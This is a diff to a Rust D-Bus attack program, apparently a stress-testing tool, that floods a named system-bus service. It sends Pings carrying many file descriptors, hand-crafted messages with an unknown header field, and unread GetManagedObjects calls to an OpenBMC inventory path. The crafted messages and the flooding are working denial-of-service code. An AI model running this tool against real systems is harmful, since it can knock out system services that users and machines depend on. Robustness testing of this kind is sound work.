@@ -67,41 +67,69 @@ impl Attack {
             clients.push(Client::connect(address)?);
         }
         let message = self.message()?;
-        let mut bytes = message.data().bytes().to_vec();
         if matches!(self.kind, Kind::Odd) {
-            // The field with the body's signature: its code, and the beginning of what it is.
-            let at = bytes.windows(4).position(|field| field == [8, 1, b'g', 0]).context("no signature")?;
-            *bytes.get_mut(at).context("no signature")? = UNKNOWN_FIELD;
+            return self.run_odd(clients, &message);
         }
         for _ in 0..self.calls {
             // A bus that has enough of a client throws it out.
-            clients.retain_mut(|client| client.send_bytes(bytes.clone(), message.data().fds()).is_ok());
+            clients.retain_mut(|client| client.send(&message).is_ok());
         }
         Ok(clients)
     }
 
+    /// Errors: the bus throws out who sends such a message, or the service does not answer what comes behind it.
+    fn run_odd(&self, mut clients: Vec<Client>, message: &Message) -> Result<Vec<Client>> {
+        let bytes = with_unknown_field(message.data().bytes()).context("a short message")?;
+        let last = self.ping().build(&())?;
+        for client in &mut clients {
+            for _ in 0..self.calls {
+                client.send_bytes(bytes.clone(), &[])?;
+            }
+            client.send(&last)?;
+            // The first is of the bus: that the client has a name.
+            while !client.read_is_answer()? {}
+        }
+        Ok(clients)
+    }
+
+    fn ping(&self) -> zbus::message::Builder<'_> {
+        let ping = Message::method_call("/", "Ping").interface("org.freedesktop.DBus.Peer");
+        ping.destination(self.name.as_str())
+    }
+
     fn message(&self) -> Result<Message> {
-        let call = |path: &'static str, interface: &'static str, method: &'static str| {
-            Message::method_call(path, method).interface(interface).destination(self.name.as_str())
-        };
         Ok(match self.kind {
             Kind::Descriptors => {
                 let file = File::open("/dev/null")?;
                 let copy = || Ok::<_, std::io::Error>(zbus::OwnedFd::from(OwnedFd::from(file.try_clone()?)));
                 let descriptors = (0..DESCRIPTORS).map(|_| copy()).collect::<Result<Vec<_>, _>>()?;
-                let ping = call("/", "org.freedesktop.DBus.Peer", "Ping");
-                ping.with_flags(Flags::NO_REPLY_EXPECTED).build(&descriptors)?
+                self.ping().with_flags(Flags::NO_REPLY_EXPECTED).build(&descriptors)?
             }
-            Kind::Odd => {
-                let ping = call("/", "org.freedesktop.DBus.Peer", "Ping");
-                ping.with_flags(Flags::NO_REPLY_EXPECTED).build(&"text")?
-            }
+            Kind::Odd => self.ping().with_flags(Flags::NO_REPLY_EXPECTED).build(&())?,
             Kind::Unread => {
-                let path = "/xyz/openbmc_project/inventory";
-                call(path, "org.freedesktop.DBus.ObjectManager", "GetManagedObjects").build(&())?
+                let call = Message::method_call("/xyz/openbmc_project/inventory", "GetManagedObjects");
+                let call = call.interface("org.freedesktop.DBus.ObjectManager");
+                call.destination(self.name.as_str()).build(&())?
             }
         })
     }
+}
+
+/// The same message with one more header field. `None` when it is no message.
+fn with_unknown_field(message: &[u8]) -> Option<Vec<u8>> {
+    let length = u32::from_ne_bytes(message.get(12..16)?.try_into().ok()?) as usize;
+    let end = 16 + length;
+    let mut bytes = message.get(..end)?.to_vec();
+    bytes.resize(end.next_multiple_of(8), 0);
+    // Code, signature, a text of one character.
+    bytes.extend([UNKNOWN_FIELD, 1, b's', 0]);
+    bytes.extend(1_u32.to_ne_bytes());
+    bytes.extend([b'x', 0]);
+    let length = u32::try_from(bytes.len() - 16).ok()?;
+    bytes.get_mut(12..16)?.copy_from_slice(&length.to_ne_bytes());
+    bytes.resize(bytes.len().next_multiple_of(8), 0);
+    bytes.extend(message.get(end.next_multiple_of(8)..)?);
+    Some(bytes)
 }
 
 /// The program: attacks the system bus's service that its arguments name.
